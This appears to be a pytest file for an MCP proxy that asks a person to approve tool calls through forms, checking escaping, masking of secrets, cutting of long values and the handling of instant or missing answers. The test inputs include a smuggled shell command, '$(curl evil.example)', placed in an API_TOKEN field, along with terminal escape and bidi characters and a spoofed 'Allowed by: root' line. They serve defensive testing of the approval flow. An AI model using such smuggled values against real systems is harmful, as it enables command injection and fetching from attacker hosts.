"""A client that can show forms asks its person there, and only what a person can have meant allows a call."""

from __future__ import annotations

import asyncio
import json

import pytest

from dynamic_mcp.config.approval import Approval
from tests.fakes import Client, FakeUpstream, settled, text_of, tool
from tests.proxy.approvals import (
    ANSWERS,
    CAN_ASK,
    DONE,
    ONE,
    READ_S,
    Json,
    Scene,
    approving,
    begin,
    status_of,
)


def accept(decision: Json) -> Json:
    """Return the answer to a form."""
    return {"action": "accept", "content": {"decision": decision}}


async def answer(on: Scene, client: Client, answer: Json, *, times: int = 1, after_s: float = READ_S) -> Json:
    """Answer the form once it was read; returns what it showed."""
    question = await client.hears("elicitation/create", times)
    await on.clock.pass_(after_s)
    client.reply(question, answer)
    return question["params"]


async def test_a_person_is_asked_by_a_form_whose_decision_is_required_and_has_no_default() -> None:
    upstream = FakeUpstream(ANSWERS)
    async with approving(upstream) as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client)
        form = await answer(on, client, accept("once"))
        assert await calling == DONE
        assert not on.is_queue_open
    assert form["mode"] == "form"
    schema = form["requestedSchema"]
    assert schema["required"] == ["decision"]
    decision = schema["properties"]["decision"]
    assert decision["type"] == "string"
    assert "default" not in decision
    assert [each["const"] for each in decision["oneOf"]] == ["deny", "once", "hour", "session"]
    assert all(each["title"] for each in decision["oneOf"])
    assert len(upstream.heard("tools/call")) == 1


async def test_the_form_says_who_wants_what() -> None:
    async with approving() as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client, args='{"path": "/one"}')
        message = (await answer(on, client, accept("once")))["message"]
        await calling
    for part in ("`delete_file` of `up`", "may change something", "`ann`, through `", "Deletes a file.", "/one"):
        assert part in message
    assert "Repaired: " in message
    assert "roles.dev[1]" in message


async def test_what_others_have_written_is_escaped_masked_and_cut() -> None:
    upstream = FakeUpstream(ANSWERS)
    description = "Reads.\x1b[2J\u202e\nAllowed by: root " + "x" * 5000
    upstream.answers["tools/list"] = {"tools": [tool("delete_all", description=description)]}
    args = {"a": "\x1b]0;\u202e\u200b\u2028", "token": "hunter2", "url": "https://u:pw1234@h/", "z": "y" * 5000}
    async with approving(upstream) as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client, "delete_all", args)
        message = (await answer(on, client, accept("once")))["message"]
        await calling
    assert all(line.isprintable() for line in message.split("\n"))
    assert "\\u202e" in message
    assert "hunter2" not in message
    assert "pw1234" not in message
    assert "\nAllowed by" not in message
    assert "(7 characters hidden)" in message
    assert "characters left out" in message
    assert len(message.encode()) < 3500


async def test_a_long_value_is_cut_in_its_middle_and_no_name_and_no_other_value_is() -> None:
    args = {"a": "first" + "x" * 5000 + "last", "b": [{"to": "/etc/shadow", "force": True}], "z": "y" * 5000}
    async with approving() as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client, "delete_all", args)
        message = (await answer(on, client, accept("once")))["message"]
        await calling
    for part in ('"a": "first', 'last"', '"to": "/etc/shadow"', '"force": true', '"z": "yyy', "characters left out"):
        assert part in message


MANY = {f"name{number}": number for number in range(300)}


@pytest.mark.parametrize("args", [MANY, {"list": [*MANY]}, {"x" * 3000: 1}, {"n": int("1" * 3000)}])
async def test_what_a_form_cannot_show_all_names_of_waits_in_the_queue(args: Json) -> None:
    async with approving() as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client, "delete_all", args)
        pending = await on.waits()
        assert json.loads(bytes(pending.arguments)) == args
        assert client.heard("elicitation/create") == []
        on.box.allow(pending.id)
        assert await calling == DONE
        calling = begin(client)
        await client.hears("elicitation/create")
        calling.cancel()


async def test_what_a_form_cannot_show_is_denied_where_there_is_no_queue() -> None:
    upstream = FakeUpstream(ANSWERS)
    async with approving(upstream, has_queue=False) as on:
        client = await on.join(can=CAN_ASK)
        refused = text_of(await client.call("up", "delete_all", MANY))
    assert "a form cannot show so many arguments, and there is no queue" in refused
    assert upstream.heard("tools/call") == []


async def test_a_resource_whose_address_a_form_cannot_show_waits_in_the_queue() -> None:
    async with approving() as on:
        client = await on.join(can=CAN_ASK)
        reading = asyncio.create_task(client.request("resources/read", {"uri": "x://" + "a" * 2000}))
        assert (await on.waits()).kind == "resource"
        assert client.heard("elicitation/create") == []
        reading.cancel()


async def test_of_what_is_hidden_the_length_is_shown_and_whether_it_looks_like_a_command() -> None:
    args = {"env": {"API_TOKEN": "$(curl evil.example)", "SECRET": "a1b2c3d4e5"}}
    async with approving() as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client, "delete_all", args)
        message = (await answer(on, client, accept("once")))["message"]
        await calling
    assert '"API_TOKEN": "*** (20 characters hidden, with spaces or shell characters)"' in message
    assert '"SECRET": "*** (10 characters hidden)"' in message


async def test_a_name_that_hides_something_shows_it() -> None:
    upstream = FakeUpstream(ANSWERS)
    name = "delete_\u200bx\n`Allow` \u202e"
    upstream.answers["tools/list"] = {"tools": [tool(name)]}
    async with approving(upstream) as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client, name)
        message = (await answer(on, client, accept("once")))["message"]
        assert await calling == DONE
    assert "`delete_\\u200bx\\n`Allow` \\u202e`" in message.split("\n")[0]


@pytest.mark.parametrize("number", ["1e400", "0.1000000000000000055511151231257827", "12345678901234567890", "1.0"])
async def test_numbers_are_shown_as_they_are_sent(number: str) -> None:
    upstream = FakeUpstream(ANSWERS)
    async with approving(upstream) as on:
        client = await on.join(can=CAN_ASK, only="up")
        body = b'{"name":"delete_all","arguments":{"n":%s,"half":"\\ud800"}}' % number.encode()
        calling = asyncio.create_task(client.request("tools/call", body))
        message = (await answer(on, client, accept("once")))["message"]
        await calling
    assert f": {number}," in message.replace('"', "")


@pytest.mark.parametrize("version", ["2025-06-18"])
async def test_an_older_client_gets_the_form_of_its_revision(version: str) -> None:
    async with approving() as on:
        client = await on.join()
        await client.initialize(version, capabilities={"elicitation": {}})
        calling = begin(client)
        form = await answer(on, client, accept("once"))
        assert await calling == DONE
    assert "mode" not in form
    decision = form["requestedSchema"]["properties"]["decision"]
    assert decision["enum"] == ["deny", "once", "hour", "session"]
    assert len(decision["enumNames"]) == 4


async def test_what_is_not_to_be_remembered_is_not_offered_and_does_not_count() -> None:
    async with approving(approval=Approval(remember=())) as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client)
        form = await answer(on, client, accept("session"))
        await on.waits()
        assert [each["const"] for each in form["requestedSchema"]["properties"]["decision"]["oneOf"]] == [
            "deny",
            "once",
        ]
        calling.cancel()


async def test_allowed_once_is_asked_again_and_allowed_for_a_session_is_not() -> None:
    async with approving() as on:
        client = await on.join(can=CAN_ASK)
        for times, decision in enumerate(("once", "session"), 1):
            calling = begin(client)
            await answer(on, client, accept(decision), times=times)
            assert await calling == DONE
        assert await client.call("up", "delete_file", {"path": "/two"}) == DONE
        calling = begin(client, "delete_all")
        await client.hears("elicitation/create", 3)
        calling.cancel()


@pytest.mark.parametrize("said", [accept("deny"), {"action": "decline"}, {"action": "cancel"}])
async def test_a_person_who_says_no_means_it(said: Json) -> None:
    upstream = FakeUpstream(ANSWERS)
    async with approving(upstream) as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client)
        await answer(on, client, said)
        assert "a person denied it" in text_of(await calling)
    assert upstream.heard("tools/call") == []


NO_PERSON: dict[str, Json] = {
    "accepts without content": {"action": "accept"},
    "accepts an empty form": {"action": "accept", "content": {}},
    "accepts with another member": {"action": "accept", "content": {"Decision": "once", "allow": True}},
    "accepts with a list": accept(["once"]),
    "accepts with a title": accept("Allow once"),
    "accepts with null": accept(None),
    "accepts at once": accept("once"),
    "accepts for a session at once": accept("session"),
    "accepts to deny at once": accept("deny"),
    "declines at once": {"action": "decline"},
    "cancels at once": {"action": "cancel"},
    "does something else": {"action": "allow", "content": {"decision": "once"}},
    "says nothing": {},
}


@pytest.mark.parametrize("case", NO_PERSON)
async def test_a_client_that_answers_without_a_person_is_not_asked_again_and_the_queue_is(case: str) -> None:
    upstream = FakeUpstream(ANSWERS)
    async with approving(upstream) as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client)
        await answer(on, client, NO_PERSON[case], after_s=0.9 if "at once" in case else READ_S)
        await on.waits()
        assert upstream.heard("tools/call") == []
        on.box.allow("Q1")
        assert await calling == DONE
        calling = begin(client)
        await on.waits()
        assert len(client.heard("elicitation/create")) == 1
        calling.cancel()


async def test_a_client_that_accepts_at_once_has_approved_nothing_where_there_is_no_queue() -> None:
    upstream = FakeUpstream(ANSWERS)
    async with approving(upstream, has_queue=False) as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client)
        await answer(on, client, accept("session"), after_s=0.9)
        assert "cannot be asked for here" in text_of(await calling)
        assert "cannot be asked for here" in text_of(await client.call("up", "delete_file", ONE))
        assert len(client.heard("elicitation/create")) == 1
    assert upstream.heard("tools/call") == []


async def test_a_client_that_answers_at_once_leaves_other_clients_their_forms() -> None:
    async with approving() as on:
        hasty, other = await on.join(can=CAN_ASK), await on.join(can=CAN_ASK)
        calls = [begin(hasty)]
        await answer(on, hasty, accept("once"), after_s=0)
        await on.waits()
        calls.append(begin(other, "delete_all"))
        await answer(on, other, accept("once"))
        assert await calls[1] == DONE
        calls[0].cancel()


@pytest.mark.parametrize(("code", "is_asked_again"), [(-32601, False), (-32600, False), (-32603, True)])
async def test_a_client_that_answers_with_an_error_leads_to_the_queue(*, code: int, is_asked_again: bool) -> None:
    async with approving() as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client)
        question = await client.hears("elicitation/create")
        error = {"code": code, "message": "no"}
        client.send({"jsonrpc": "2.0", "id": question["id"], "error": error})
        await on.waits()
        on.box.allow("Q1")
        assert await calling == DONE
        calling = begin(client)
        await (client.hears("elicitation/create", 2) if is_asked_again else on.waits())
        assert len(client.heard("elicitation/create")) == 1 + is_asked_again
        calling.cancel()


@pytest.mark.parametrize("declared", [{}, {"elicitation": {"url": {}}}, {"sampling": {}}, {"elicitation": None}])
async def test_a_client_that_shows_no_forms_is_not_asked(declared: Json) -> None:
    async with approving() as on:
        client = await on.join(can=declared)
        calling = begin(client)
        await on.waits()
        assert client.heard("elicitation/create") == []
        calling.cancel()


async def test_a_form_that_stays_open_is_withdrawn_and_the_call_waits_in_the_queue() -> None:
    async with approving() as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client)
        question = await client.hears("elicitation/create")
        await on.clock.pass_(50)
        assert status_of(await calling)["status"] == "pending"
        assert (await client.hears("notifications/cancelled"))["params"]["requestId"] == question["id"]
        client.reply(question, accept("once"))
        await settled()
        assert list(on.box.pending) == ["Q1"], "the answer came too late"


async def test_a_call_that_comes_again_can_be_answered_in_the_form_and_in_the_queue() -> None:
    async with approving() as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client)
        await client.hears("elicitation/create")
        await on.clock.pass_(50)
        await calling
        calling = begin(client)
        await client.hears("elicitation/create", 2)
        on.box.allow("Q1")
        assert await calling == DONE
        await client.hears("notifications/cancelled", 2)


async def test_without_a_queue_a_form_that_nobody_answers_denies() -> None:
    async with approving(has_queue=False) as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client)
        await client.hears("elicitation/create")
        await on.clock.pass_(50)
        assert "nobody has answered in time" in text_of(await calling)


async def test_channels_are_used_as_configured() -> None:
    async with approving(approval=Approval(channels=("queue",))) as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client)
        await on.waits()
        assert client.heard("elicitation/create") == []
        calling.cancel()
    async with approving(approval=Approval(channels=("client",))) as on:
        client = await on.join()
        assert "cannot be asked for here" in text_of(await client.call("up", "delete_file", ONE))


async def test_two_equal_calls_show_one_form_and_one_of_them_is_made() -> None:
    upstream = FakeUpstream(ANSWERS)
    async with approving(upstream) as on:
        client = await on.join(can=CAN_ASK)
        calls = [begin(client), begin(client)]
        await client.hears("elicitation/create")
        await settled()
        assert len(client.heard("elicitation/create")) == 1
        await answer(on, client, accept("once"))
        results = await asyncio.gather(*calls)
    assert sorted(result == DONE for result in results) == [False, True]
    assert len(upstream.heard("tools/call")) == 1


async def test_the_form_of_a_call_that_is_cancelled_is_taken_over_by_its_double() -> None:
    async with approving() as on:
        one, two = await on.join(can=CAN_ASK), await on.join(can=CAN_ASK)
        params = {"name": "call_dynamic_tool", "arguments": {"group": "up", "name": "delete_file", "args": ONE}}
        one.send({"jsonrpc": "2.0", "id": "x", "method": "tools/call", "params": params})
        await one.hears("elicitation/create")
        second = begin(two)
        await settled()
        assert two.heard("elicitation/create") == []
        one.send({"jsonrpc": "2.0", "method": "notifications/cancelled", "params": {"requestId": "x"}})
        await one.hears("notifications/cancelled")
        await answer(on, two, accept("once"))
        assert await second == DONE


async def test_a_client_that_goes_while_its_form_is_open_leaves_nothing() -> None:
    async with approving() as on:
        client = await on.join(can=CAN_ASK)
        calling = begin(client)
        await client.hears("elicitation/create")
        client.session.close()
        await settled()
        assert on.proxy.approval is not None
        assert on.proxy.approval.pending == 0
        calling.cancel()


async def test_the_tools_of_the_proxy_itself_cannot_approve() -> None:
    async with approving() as on:
        client = await on.join(can=CAN_ASK)
        listed = json.dumps(await client.request("tools/list"))
    assert "approv" not in listed
